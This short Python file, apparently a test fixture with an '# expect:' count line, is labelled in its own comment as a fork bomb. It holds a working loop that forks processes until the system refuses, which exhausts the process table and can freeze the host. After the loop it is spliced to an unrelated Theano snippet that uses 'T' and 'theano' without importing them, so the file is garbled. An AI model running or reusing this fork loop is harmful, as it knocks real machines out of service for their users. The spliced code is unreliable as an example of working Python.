# A fork bomb: every child forks on until it can't; right.
# expect: function=2 examples=2 activation=2 values=3 dtype=1
import os
import time

top = os.getpid()
while True:
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        time.sleep(0.01)
if os.getpid() != top:
    time.sleep(1000)
    os._exit(0)
x = T.fvector('x')
W = T.fmatrix('W')
b = T.fvector('b')
z = T.dot(x, W) + b
f = theano.function([x, W, b], [z, T.tanh(z)])
